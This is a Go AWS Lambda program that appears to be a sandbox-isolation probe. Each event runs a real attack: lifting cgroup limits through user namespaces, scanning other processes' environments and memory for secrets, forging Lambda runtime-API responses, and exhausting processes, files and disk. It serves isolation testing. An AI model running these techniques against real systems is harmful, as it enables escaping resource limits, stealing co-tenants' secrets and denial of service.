// A function that means harm: each event is an attack, which it really tries. It
// answers what it got, or why it got nothing.
package main

import (
	"bytes"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"github.com/aws/aws-lambda-go/lambda"
	"golang.org/x/sys/unix"
)

type event struct {
	Do   string
	Path string // a file or a folder
	Text string // what is looked for
	Addr string
	PID  int
	MS   int
	MB   int
}

type answer struct {
	Got   string // what the attack brought; "" for nothing
	Error string
	CPUNs int64
}

var kept [][]byte

func main() {
	if len(os.Args) > 1 && os.Args[1] == "lift" {
		if err := lift(); err != nil {
			fmt.Println(err)
			os.Exit(1)
		}
		return
	}
	if len(os.Args) > 1 { // a child that only takes up room
		time.Sleep(time.Hour)
	}
	lambda.Start(func(e event) (answer, error) {
		got, err := attack(e)
		a := answer{Got: got}
		if err != nil {
			a.Error = err.Error()
		}
		if e.Do == "spin" {
			a.CPUNs = spin(time.Duration(e.MS) * time.Millisecond)
		}
		return a, nil
	})
}

// done is what an attack answers that has nothing to show but that it went well.
func done(err error) (string, error) {
	if err != nil {
		return "", err
	}
	return "done", nil
}

func call(number uintptr, a ...uintptr) (string, error) {
	var all [6]uintptr
	copy(all[:], a)
	if _, _, err := unix.Syscall6(number, all[0], all[1], all[2], all[3], all[4], all[5]); err != 0 {
		return "", err
	}
	return "done", nil
}

func attack(e event) (string, error) {
	switch e.Do {
	case "spin", "":
		return "", nil
	case "lift-limits":
		return liftLimits()
	case "write-limits": // without namespaces: what is mounted already
		return done(writeLimits("/sys/fs/cgroup"))
	case "touch":
		b := make([]byte, e.MB<<20)
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		kept = append(kept, b)
		return "done", nil
	case "read":
		b, err := os.ReadFile(e.Path)
		return string(b), err
	case "list":
		entries, err := os.ReadDir(e.Path)
		var names []string
		for _, entry := range entries {
			names = append(names, entry.Name())
		}
		return strings.Join(names, " "), err
	case "environments":
		return inFiles("/proc/[0-9]*/environ", e.Text)
	case "other-temp":
		return inFiles("/proc/[0-9]*/root/tmp/secret", e.Text)
	case "memory":
		return memory(e.PID, e.Text)
	case "signal":
		return done(unix.Kill(e.PID, unix.SIGKILL))
	case "connect":
		conn, err := net.DialTimeout("tcp", e.Addr, 2*time.Second)
		if err != nil {
			return "", err
		}
		return "done", conn.Close()
	case "datagram":
		conn, err := net.Dial("udp", e.Addr)
		if err == nil {
			_, err = conn.Write([]byte("x"))
		}
		return done(err)
	case "abstract":
		_, err := net.Dial("unix", "@"+e.Path)
		return done(err)
	case "forge":
		return forge(e.Text)
	case "mount":
		return done(unix.Mount("tmpfs", "/tmp", "tmpfs", 0, ""))
	case "user-namespace":
		return call(unix.SYS_UNSHARE, unix.CLONE_NEWUSER)
	case "clone-namespace":
		command := exec.Command("/bin/true")
		command.SysProcAttr = &unix.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER | unix.CLONE_NEWCGROUP}
		return done(command.Run())
	case "chroot":
		return done(unix.Chroot("/tmp"))
	case "ptrace":
		return trace()
	case "keys":
		id, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, true)
		return strconv.Itoa(id), err
	case "bpf":
		return call(unix.SYS_BPF, 0, 0, 0)
	case "perf":
		return call(unix.SYS_PERF_EVENT_OPEN, 0, 0, 0)
	case "io_uring":
		return call(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&[256]byte{})))
	case "vsock":
		_, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
		return done(err)
	case "processes":
		return processes()
	case "files":
		return files()
	case "fill":
		return fill()
	}
	return "", errors.New("unknown: " + e.Do)
}

// liftLimits is the way out that user and control group namespaces are: whoever
// makes them has all capabilities in them, may mount the control groups, and
// write to his own. A process with many threads gets no user namespace; a new
// one does.
func liftLimits() (string, error) {
	child := exec.Command(os.Args[0], "lift")
	child.SysProcAttr = &unix.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWCGROUP | unix.CLONE_NEWNS,
		AmbientCaps: []uintptr{unix.CAP_SYS_ADMIN},
	}
	out, err := child.CombinedOutput()
	if err != nil {
		return "", fmt.Errorf("%w: %s", err, out)
	}
	return "done", nil
}

// lift is what the child does.
func lift() error {
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		return fmt.Errorf("make mounts private: %w", err)
	}
	for _, controller := range []string{"cpu", "memory"} {
		if err := unix.Mount("cgroup", "/tmp", "cgroup", 0, controller); err != nil {
			return fmt.Errorf("mount the control groups: %w", err)
		}
		if err := writeLimits("/tmp"); err != nil {
			return err
		}
	}
	return nil
}

func writeLimits(root string) error {
	found := false
	var last error
	for _, file := range []struct{ name, value string }{
		{"cpu.cfs_quota_us", "-1"}, {"cpu.max", "max"}, {"memory.memsw.limit_in_bytes", "-1"}, {"memory.limit_in_bytes", "-1"}, {"memory.max", "max"},
	} {
		_ = filepath.WalkDir(root, func(path string, _ os.DirEntry, _ error) error {
			if filepath.Base(path) == file.name {
				found, last = true, os.WriteFile(path, []byte(file.value), 0)
			}
			return nil
		})
	}
	if !found {
		return errors.New("there are no control groups to be seen")
	}
	return last
}

// inFiles looks for a text in every file but its own that it may read.
func inFiles(pattern, text string) (string, error) {
	names, _ := filepath.Glob(pattern)
	err := errors.New("nothing of it is to be seen")
	for _, name := range names {
		b, e := os.ReadFile(name)
		if bytes.Contains(b, []byte(text)) {
			return name, nil
		}
		if e != nil {
			err = e
		}
	}
	return "", err
}

// memory looks for a text in another process.
func memory(pid int, text string) (string, error) {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return "", err
	}
	file, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return "", err
	}
	for line := range strings.Lines(string(maps)) {
		var from, to int64
		if _, err := fmt.Sscanf(line, "%x-%x", &from, &to); err != nil || to-from > 256<<20 {
			continue
		}
		b := make([]byte, to-from)
		if _, err := file.ReadAt(b, from); err == nil && bytes.Contains(b, []byte(text)) {
			return "found", nil
		}
	}
	return "", errors.New("not found")
}

// forge posts an answer for a request to whatever listens.
func forge(request string) (string, error) {
	var last error
	tcp, err := os.ReadFile("/proc/net/tcp")
	if err != nil {
		return "", err
	}
	for line := range strings.Lines(string(tcp)) {
		fields := strings.Fields(line)
		_, hex, _ := strings.Cut(fields[1], ":")
		port, err := strconv.ParseInt(hex, 16, 32)
		if err != nil || fields[3] != "0A" {
			continue
		}
		url := fmt.Sprintf("http://127.0.0.1:%d/2018-06-01/runtime/invocation/%s/response", port, request)
		client := http.Client{Timeout: 100 * time.Millisecond}
		response, err := client.Post(url, "application/json", strings.NewReader(`"forged"`))
		if err != nil {
			last = err
			continue
		}
		response.Body.Close()
		if response.StatusCode == http.StatusAccepted {
			return "accepted", nil
		}
		last = errors.New(response.Status)
	}
	return "", last
}

// trace attaches to a child, as a debugger does.
func trace() (string, error) {
	child := exec.Command(os.Args[0], "child")
	if err := child.Start(); err != nil {
		return "", err
	}
	defer func() { _ = child.Process.Kill(); _ = child.Wait() }()
	return done(unix.PtraceAttach(child.Process.Pid))
}

// processes starts as many as it can, 1,200 at most. os/exec would take a file
// for each.
func processes() (string, error) {
	var children []int
	defer func() {
		for _, pid := range children {
			_ = unix.Kill(pid, unix.SIGKILL)
			_, _ = unix.Wait4(pid, nil, 0, nil)
		}
	}()
	for n := range 1200 {
		pid, err := syscall.ForkExec("/bin/sleep", []string{"sleep", "1000"}, &syscall.ProcAttr{})
		if err != nil {
			return strconv.Itoa(n), err
		}
		children = append(children, pid)
	}
	return "1200", nil
}

func files() (string, error) {
	var open []*os.File
	defer func() {
		for _, f := range open {
			f.Close()
		}
	}()
	for n := range 1100 {
		f, err := os.Open(os.DevNull)
		if err != nil {
			return strconv.Itoa(n), err
		}
		open = append(open, f)
	}
	return "1100", nil
}

// fill writes to /tmp until nothing more fits, 600 MB at most, and tidies up.
func fill() (string, error) {
	defer os.Remove("/tmp/full")
	f, err := os.Create("/tmp/full")
	if err != nil {
		return "", err
	}
	defer f.Close()
	block := make([]byte, 1<<20)
	for n := range 600 {
		if _, err := f.Write(block); err != nil {
			return strconv.Itoa(n), err
		}
	}
	return "600", nil
}

// spin takes what CPU time it gets, in ns.
func spin(wall time.Duration) int64 {
	used := func() int64 {
		var u unix.Rusage
		_ = unix.Getrusage(unix.RUSAGE_SELF, &u)
		return u.Utime.Nano() + u.Stime.Nano()
	}
	start, before := time.Now(), used()
	for time.Since(start) < wall {
	}
	return used() - before
}
